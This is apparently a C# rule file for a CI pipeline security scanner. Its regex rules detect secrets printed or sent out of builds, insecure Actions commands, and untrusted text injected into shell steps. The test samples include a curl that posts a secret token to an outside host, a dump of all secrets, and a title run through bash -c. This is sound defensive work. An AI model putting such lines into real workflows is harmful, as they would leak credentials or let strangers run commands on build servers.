using System.Collections.Immutable;
using ApprovalGuard.Detection.Privilege.Patterns;
using ApprovalGuard.Findings;

namespace ApprovalGuard.Detection.Privilege.Rules;

/// <summary>What build servers run, as far as a line tells; what the structure of a workflow tells is looked for in <c>Workflows</c>.</summary>
internal static class PipelineTextRules
{
    private const string Secret = @"\$\{\{\s*(?:secrets\.\w+|toJSON\(\s*secrets\s*\)|github\.token)\s*\}\}";

    private static Severity? JudgePrinted(Hit hit) => hit.Match.Groups["hidden"].Success || hit.Match.Groups["all"].Success ? Severity.High : hit.Match.Groups["sent"].Success ? Severity.Low : Severity.Medium;

    /// <summary>The rules.</summary>
    public static ImmutableArray<PatternRule> All { get; } =
    [
        Rule.Pattern("secret-printed", Severity.Medium, "secret leaves the build", "https://docs.github.com/actions/security-for-github-actions/security-guides/using-secrets-in-github-actions",
            "Logs and requests are read by others; an encoded secret is not masked in the log.", "Hand it to the one program that needs it, through the environment.",
            new Form(@"\b(?:echo|printf)\s[^\n|>]{0,200}?" + Secret + @"[^\n|>]{0,120}(?<hidden>\|\s*(?:base64(?!\s+(?:-d|-D|--decode))|rev|xxd|od|hexdump|sed|tr|fold|openssl\s+(?:enc|base64))\b[^\n>]{0,60})(?![^\n]{0,80}>)", "secrets."),
            new Form(@"\b(?:echo|printf)\s[^\n|>]{0,200}?" + Secret + @"[^\n|>]{0,120}(?=\r?$)", "secrets.", "github.token"),
            new Form(@"(?<all>\$\{\{\s*toJSON\(\s*secrets\s*\)\s*\}\})", "toJSON"),
            new Form(@"(?<sent>\b(?:curl|wget)\s[^\n]{0,400}?(?:-d|--data\S{0,12}|-F|--form|--post-data)[\s=][^\n]{0,200}?\$\{\{\s*secrets\.\w+)", "secrets.")) with
        {
            Where = FileRole.Pipeline,
            Judge = JudgePrinted,
            Positives =
            [
                new("      - run: echo ${{ secrets.TOKEN }}\n", ".github/workflows/ci.yml"), new("      - run: echo ${{ secrets.TOKEN }} | base64\n", ".github/workflows/ci.yml"),
                new("        env:\n          ALL: ${{ toJSON(secrets) }}\n", ".github/workflows/ci.yml"), new("      - run: curl -d \"t=${{ secrets.TOKEN }}\" https://collect.tool.dev\n", ".github/workflows/ci.yml"),
            ],
            Negatives =
            [
                new("      - run: echo ${{ secrets.TOKEN }} | docker login -u x --password-stdin\n", ".github/workflows/ci.yml"), new("      - run: echo ${{ secrets.KEY }} | base64 -d > key.p12\n", ".github/workflows/ci.yml"),
                new("      - run: echo \"${{ secrets.KEY }}\" > key.pem\n", ".github/workflows/ci.yml"), new("          token: ${{ secrets.TOKEN }}\n", ".github/workflows/ci.yml"),
            ],
        },
        Rule.Pattern("unsafe-commands", Severity.Medium, "build output may set the environment", "https://github.blog/changelog/2020-10-01-github-actions-deprecating-set-env-and-add-path-commands/",
            "Whatever a step prints, text of a stranger included, can then change the variables and the path of the steps after it.", "Write to $GITHUB_ENV and $GITHUB_PATH instead.",
            new Form(@"\bACTIONS_ALLOW_UNSECURE_COMMANDS[""']?\s*[:=]\s*[""']?true\b", "ACTIONS_ALLOW_UNSECURE_COMMANDS")) with
        {
            Where = FileRole.Pipeline | FileRole.Config | FileRole.Shell,
            Positives = [new("env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true\n", ".github/workflows/ci.yml")],
            Negatives = [new("env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: false\n", ".github/workflows/ci.yml")],
        },
        Rule.Pattern("pipeline-injection", Severity.Medium, "text of a stranger becomes a command", "https://cwe.mitre.org/data/definitions/78.html",
            "Whoever names a branch or writes a title chooses what the build server runs, with its credentials.", "Hand the value over in an environment variable, and quote it.",
            new Form(@"(?:\beval|(?:ba|z)?sh\s+-c)\s[^\n]{0,200}?\$\{?CI_(?:MERGE_REQUEST_(?:TITLE|DESCRIPTION|SOURCE_BRANCH_NAME)|COMMIT_(?:MESSAGE|TITLE|DESCRIPTION|REF_NAME|BRANCH))\b\}?", "$CI_", "${CI_"),
            new Form(@"\b(?:sh|bat|powershell)\s*\(?\s*(?:script:\s*)?""(?:"""")?[^""\n]{0,300}?\$\{?(?:env\.)?(?:CHANGE_(?:TITLE|BRANCH|AUTHOR\w*)|ghprb\w{1,30}|gitlab(?:SourceBranch|MergeRequestTitle))\b", "CHANGE_", "ghprb", "gitlabSourceBranch", "gitlabMergeRequestTitle"),
            new Form(@"\$\((?:Build\.SourceVersionMessage|System\.PullRequest\.SourceBranch)\)", "Build.SourceVersionMessage", "System.PullRequest.SourceBranch") { Beside = [@"^\s*(?:-\s*)?(?:script|bash|pwsh|powershell|inlineScript)\s*:"], Around = 6 },
            new Form(@"<<\s*pipeline\.(?:event\.github\.pull_request\.(?:title|body|head\.ref)|trigger_parameters\.github_app\.\w{0,20}(?:title|message))\s*>>", "<< pipeline", "<<pipeline")) with
        {
            Where = FileRole.Pipeline,
            Positives =
            [
                new("script:\n  - bash -c \"echo $CI_MERGE_REQUEST_TITLE\"\n", ".gitlab-ci.yml"), new("sh \"git checkout ${env.CHANGE_BRANCH}\"", "Jenkinsfile"),
                new("- script: echo $(Build.SourceVersionMessage)\n", "azure-pipelines.yml"),
            ],
            Negatives = [new("script:\n  - echo \"$CI_COMMIT_TITLE\"\n", ".gitlab-ci.yml"), new("sh 'git checkout \"$CHANGE_BRANCH\"'", "Jenkinsfile")],
        },
    ];
}
